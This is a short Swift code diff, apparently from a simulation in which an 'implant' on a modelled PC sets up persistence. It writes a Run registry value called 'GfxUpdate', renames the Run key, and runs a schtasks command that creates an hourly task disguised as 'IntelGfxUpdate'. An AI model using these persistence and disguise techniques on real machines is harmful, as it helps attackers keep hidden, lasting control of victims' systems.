@@ -86,7 +86,8 @@ extension Desk {
             by: implant)
         pc.set(run + "\\GfxUpdate", command, by: reg)
         pc.end(reg)
-        pc.rename(key: run + "Disabled", to: run + "Once", by: implant)
+        pc.rename(key: run, to: run + "Disabled", by: implant)
+        pc.rename(key: run + "Disabled", to: run, by: implant)
         pc.run(
             Self.system + "schtasks.exe", "schtasks /create /tn IntelGfxUpdate /tr \"\(command)\" /sc hourly /f",
             by: implant)
